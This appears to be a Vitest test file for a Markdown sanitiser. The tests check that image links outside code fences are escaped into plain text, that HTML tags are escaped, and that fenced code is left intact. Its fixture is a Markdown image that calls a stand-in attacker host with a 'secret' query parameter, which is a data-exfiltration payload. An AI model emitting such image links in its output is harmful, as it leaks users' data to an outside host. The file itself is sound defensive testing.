import { expect, test } from 'vitest';
import { harmless } from './harmless-markdown.ts';

const image = '![x](http://evil.example/?d=secret)';
const words = '!\\[x](http://evil.example/?d=secret)';

test('leaves Markdown and code as they were written', () => {
  const text = `# Title\n\n**bold**\n\n\`\`\`html\n<b>${image}</b>\n\`\`\`\n\n~~~~\n~~~\n<i>\n~~~~\nend`;

  expect(harmless(text)).toBe(text);
});

test.each([
  ['a fence within a fence', '```\n```js\n```\n', ''],
  ['code in a line that looks like a fence', '``` a`b\n', ''],
  ['a fence that ends with its list', '- a\n  ```\n\n', ''],
  ['a fence in a list', '- ```\n', ''],
  ['a fence closed by a longer one', '```\n`````\n', ''],
  ['a tilde fence with ends of lines of old', '~~~\r~~~\r', ''],
])('an image behind %s is words', (_what, before, after) => {
  expect(harmless(`${before}${image}${after}`)).toContain(words);
});

test('a mark that is deep in a fence does not end it', () => {
  expect(harmless(`\`\`\`\n    \`\`\`\n${image}\n\`\`\``)).toContain(image);
});

test('HTML is words, and a fence that was cut off ends with its text', () => {
  expect(harmless('<script>x</script>')).toBe('\\<script>x\\</script>');
  expect(harmless('Look:\n```js\nlet a')).toBe('Look:\n```js\nlet a\n```');
});
